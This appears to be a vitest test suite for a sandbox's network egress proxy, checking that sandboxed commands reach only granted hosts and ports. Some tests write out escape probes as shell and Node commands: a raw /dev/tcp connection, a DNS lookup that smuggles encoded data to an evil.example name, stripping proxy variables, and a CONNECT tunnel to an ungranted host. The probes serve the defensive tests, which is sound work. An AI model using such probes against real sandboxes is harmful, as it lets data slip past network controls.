import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { createServer, type RequestListener, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { systemClock } from '@tandem/shared'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { EgressEntry } from '../egress/entry.ts'
import { nodeByProxy } from '../egress/inside.ts'
import { createGuard } from '../egress/guard.ts'
import { createInward } from '../egress/inward.ts'
import { createProxy } from '../egress/proxy.ts'
import { createBed, type Bed } from './fixture.ts'
import type { Egress } from './way-out.ts'

/** The way out of the walls, with a server on this machine that the test's own policy lets it reach by a name. */
export function describeWayOut(who: string, { owner }: { owner?: number } = {}): void {
  describe(`the way out, ${who}`, { timeout: 60_000 }, () => {
    let bed: Bed
    let server: Server
    let port: number
    let answering: RequestListener = (_, answer) => void answer.end()
    beforeAll(async () => {
      bed = await createBed({ owner })
      if (bed.probe.tier !== 'full') throw new Error(`${bed.probe.reason}. ${bed.probe.fix}`)
      server = createServer((asked, answer) => answering(asked, answer))
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
      port = (server.address() as AddressInfo).port
    })
    afterAll(() => {
      server?.closeAllConnections()
      server?.close()
      bed?.remove()
    })

    function grant(...allow: string[]) {
      const entries: EgressEntry[] = []
      const resolved: string[] = []
      const sockets: string[] = []
      const resolve = async (name: string) => {
        resolved.push(name)
        return name.endsWith('.example') ? ['127.0.0.1'] : []
      }
      const reach = { allow, deny: [], methods: 'any' as const, allowPrivate: ['granted.example'], ports: [80, 443] }
      const proxy = createProxy({
        guard: createGuard(reach, resolve),
        clock: systemClock,
        record: (entry) => entries.push(entry),
      })
      const egress: Egress = {
        environment: nodeByProxy,
        ports: [],
        open: async (folder) => {
          const path = join(folder, 'out')
          sockets.push(path)
          await proxy.listen(path)
          return proxy.close
        },
      }
      return { egress, proxy, entries, resolved, sockets }
    }
    const node = (script: string) => ({ argv: ['node', '--input-type=module', '-e', script] }) as const
    const get = (url: string) => node(`const r = await fetch('${url}'); console.log(r.status, await r.text())`)
    const tunnel = `
      import { connect } from 'node:net'
      const socket = connect(process.env.HTTPS_PROXY.split(':').at(-1), '127.0.0.1')
      socket.write('CONNECT ' + process.argv[1] + ' HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')
      let text = ''
      socket.on('data', (bytes) => { text += bytes; if (text.includes('200') && !text.includes('GET')) { text += 'GET'; socket.write('GET / HTTP/1.0\\r\\n\\r\\n') } })
      socket.on('close', () => console.log(text))`

    test('[SBX-275] a command reaches what it was granted, by asking and by tunnel, and nothing else', async () => {
      answering = ({ headers }, answer) => void answer.end(`hello ${headers.host}`)
      const { egress, proxy, entries } = grant(`granted.example:${port}`)
      expect(await bed.run(get(`http://granted.example:${port}/`), { egress })).toMatchObject({
        stdout: `200 hello granted.example:${port}\n`,
        exitCode: 0,
      })
      expect(entries).toMatchObject([{ status: 200, url: expect.stringMatching(`granted.example:${port}`) }])
      const through = grant(`granted.example:${port}`)
      const tunnelled = await bed.run(
        { argv: ['node', '--input-type=module', '-e', tunnel, `granted.example:${port}`] },
        { egress: through.egress },
      )
      expect(tunnelled.stdout).toContain('hello undefined')
      const other = grant(`granted.example:${port}`)
      const refused = await bed.run(
        { argv: ['node', '--input-type=module', '-e', tunnel, 'other.example:443'] },
        { egress: other.egress },
      )
      expect(refused.stdout).toContain('403 Forbidden')
      expect(other.proxy.refused()).toEqual(['other.example:443'])
      expect(proxy.refused()).toEqual([])
    })

    test('[SBX-49] [SBX-40] past the proxy there is no network: no route, no names, no socket of anybody else', async () => {
      let asked = 0
      answering = (_, answer) => void answer.end(String(asked++))
      const { egress, resolved, entries } = grant(`granted.example:${port}`)
      const clean = 'env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u NODE_USE_ENV_PROXY'
      const { stdout } = await bed.run(
        `${clean} node -e 'fetch("http://127.0.0.1:${port}/").catch((e) => console.log(e.cause.code))'
         ${clean} node -e 'fetch("http://granted.example:${port}/").catch((e) => console.log(e.cause.code))'
         (exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null || echo no route
         node -e 'require("dns").resolve("c2VjcmV0.evil.example", (e) => console.log(e.code))'
         getent hosts granted.example || echo no name
         ls /run /run/tandem`,
        { egress },
      )
      expect(stdout).toMatch(
        /^ECONNREFUSED\n(ENOTFOUND|EAI_AGAIN)\nno route\n(ECONNREFUSED|ESERVFAIL|ENOTFOUND|ETIMEOUT)\nno name\n/,
      )
      expect(stdout.endsWith('/run:\ntandem\n\n/run/tandem:\nout\n')).toBe(true)
      expect([asked, resolved, entries]).toEqual([0, [], []])
    })

    test('[SBX-276] without a grant nothing of it is there', async () => {
      const { stdout } = await bed.run(
        'env | grep -i proxy; ls /run; (exec 3<>/dev/tcp/127.0.0.1/44310) 2>/dev/null || echo nobody',
      )
      expect(stdout).toBe('nobody\n')
    })

    test('[SBX-276] the way is that command’s own, and gone with it; the command ends as it would without', async () => {
      answering = (_, answer) => void answer.end('here')
      const { egress, sockets } = grant(`granted.example:${port}`)
      let modes: number[] = []
      const ran = await bed.run(`echo $$ $PPID; cat /proc/$PPID/comm; trap 'echo polite; exit 7' TERM; kill -TERM $$`, {
        egress: {
          ...egress,
          open: async (folder) => {
            const close = await egress.open(folder)
            return async () => {
              modes = [join(folder, 'out'), folder].map((each) => statSync(each).mode & 0o77)
              await close()
            }
          },
        },
      })
      expect(ran).toMatchObject({ exitCode: 7, stdout: expect.stringContaining('polite') })
      // Nobody else of the machine reaches the socket, nor puts another in its place.
      expect(modes[0]).toBe(0)
      expect((modes[1] ?? 0) & 0o22).toBe(0)
      expect(sockets).toHaveLength(1)
      expect(() => statSync(sockets[0] ?? '')).toThrow('ENOENT')
      // Node gives up where a connection comes to have one of these numbers: they stay taken.
      const open = await bed.run(
        'for p in /proc/[0-9]*; do [ $p = /proc/1 ] || ! tr "\\0" "\\n" < $p/cmdline | grep -qx "/run/tandem[/]*" || readlink $p/fd/0 $p/fd/1 $p/fd/2; done',
        { egress: grant().egress },
      )
      expect(open.stdout).toBe('/dev/null\n/dev/null\n/dev/null\n')
      // A program that waits for all its children does not wait for ours.
      const waited = grant()
      const script =
        'import os; print("waits", flush=True)\ntry:\n  os.wait()\nexcept ChildProcessError: print("no children")'
      writeFileSync(join(bed.workspace, 'wait.py'), script)
      const hasPython = (await bed.run('command -v python3')).exitCode === 0
      if (hasPython)
        expect((await bed.run({ argv: ['python3', 'wait.py'] }, { egress: waited.egress })).stdout).toBe(
          'waits\nno children\n',
        )
    })

    test('[SBX-276] a command that is asked to end can still say something; limits are its own', async () => {
      answering = (_, answer) => void answer.end('heard')
      const { egress } = grant(`granted.example:${port}`)
      const stop = new AbortController()
      const said = `process.on('SIGTERM', async () => { console.log(await (await fetch('http://granted.example:${port}/')).text()); process.exit() }); console.log('ready'); setInterval(() => {}, 1000)`
      let text = ''
      await bed.run(node(said), {
        egress,
        signal: stop.signal,
        onChunk: (_, bytes) => {
          text += bytes.toString()
          if (text === 'ready\n') stop.abort()
        },
      })
      expect(text).toBe('ready\nheard\n')
      // Room for sixteen, of which the relay takes none.
      const { stdout } = await bed.run(
        'for i in 1 2 3 4 5 6 7 8; do sleep 1 & done; echo all started; kill $(jobs -p)',
        { egress: grant().egress, limits: { procs: 16 } },
      )
      expect(stdout).toBe('all started\n')
    })

    test('[SBX-283] [SBX-45] a server of the command’s is reached at the port it was granted, as long as the command runs', async () => {
      const [granted, other] = [await freePort(), await freePort()]
      const inward = createInward([granted], systemClock)
      const egress: Egress = {
        environment: {},
        ports: [granted],
        open: async (folder) => {
          await inward.listen(join(folder, 'in'))
          return inward.close
        },
      }
      const serves = `const { createServer } = require('http')
        const answer = (asked, said) => said.end('from inside ' + asked.url)
        createServer(answer).listen(${other}, () => createServer(answer).listen(${granted}, 'localhost', () => console.log('ready')))`
      const stop = new AbortController()
      const ready = Promise.withResolvers<void>()
      const running = bed.run(
        { argv: ['node', '-e', serves] },
        { egress, signal: stop.signal, onChunk: () => ready.resolve() },
      )
      await ready.promise
      const ask = async (port: number, path = '/') => (await fetch(`http://127.0.0.1:${port}${path}`)).text()
      const many = Array.from({ length: 20 }, (_, i) => `/${i}`)
      expect(await Promise.all(many.map((path) => ask(granted, path)))).toEqual(
        many.map((path) => `from inside ${path}`),
      )
      await expect(ask(other)).rejects.toThrow('fetch failed')
      const second = bed.run('true', {
        egress: {
          ...egress,
          open: async (folder) => {
            await createInward([granted], systemClock).listen(join(folder, 'in'))
            return async () => {}
          },
        },
      })
      await expect(second).rejects.toThrow(`port ${granted} of this machine is taken`)
      stop.abort()
      await running
      await expect(ask(granted)).rejects.toThrow('fetch failed')
    })

    test('[SBX-277] npm installs from its registry and runs the project’s tests', async () => {
      const packed = pack('tiny-sum', 'module.exports = (a, b) => a + b')
      answering = ({ url }, answer) => {
        if (url?.endsWith('.tgz')) return void answer.end(packed)
        const tarball = `http://granted.example:${port}/tiny-sum.tgz`
        const version = { name: 'tiny-sum', version: '1.0.0', dist: { tarball } }
        if (url !== '/tiny-sum') return void answer.writeHead(404).end()
        answer.setHeader('content-type', 'application/json')
        answer.end(
          JSON.stringify({ name: 'tiny-sum', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } }),
        )
      }
      const project = join(bed.workspace, 'project')
      mkdirSync(project, { recursive: true })
      const manifest = {
        name: 'project',
        version: '1.0.0',
        scripts: { test: 'node test.js' },
        dependencies: { 'tiny-sum': '^1.0.0' },
      }
      writeFileSync(join(project, 'package.json'), JSON.stringify(manifest))
      writeFileSync(join(project, 'test.js'), `console.log(require('tiny-sum')(40, 2) === 42 ? 'passed' : 'failed')`)
      if (owner !== undefined) execFileSync('chown', ['-R', String(owner), project])
      const { egress, entries } = grant(`granted.example:${port}`)
      const environment = { npm_config_registry: `http://granted.example:${port}/` }
      const ran = await bed.run('npm install --no-audit --no-fund && npm test --silent', {
        cwd: project,
        egress: { ...egress, environment },
        limits: { wallMs: 50_000 },
      })
      expect(ran.stdout).toMatch(/passed\n$/)
      expect(ran.exitCode).toBe(0)
      expect(readFileSync(join(project, 'node_modules/tiny-sum/index.js'), 'utf8')).toContain('a + b')
      expect(entries.map(({ status }) => status)).toEqual([200, 200])
    })
  })
}

async function freePort(): Promise<number> {
  const server = createServer()
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  await new Promise((done) => server.close(done))
  return port
}

/** A package as a registry has it. */
function pack(name: string, code: string): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'tandem-pack-'))
  try {
    mkdirSync(join(folder, 'package'))
    writeFileSync(join(folder, 'package/package.json'), JSON.stringify({ name, version: '1.0.0' }))
    writeFileSync(join(folder, 'package/index.js'), code)
    return execFileSync('tar', ['-czf', '-', '-C', folder, 'package'])
  } finally {
    rmSync(folder, { recursive: true })
  }
}
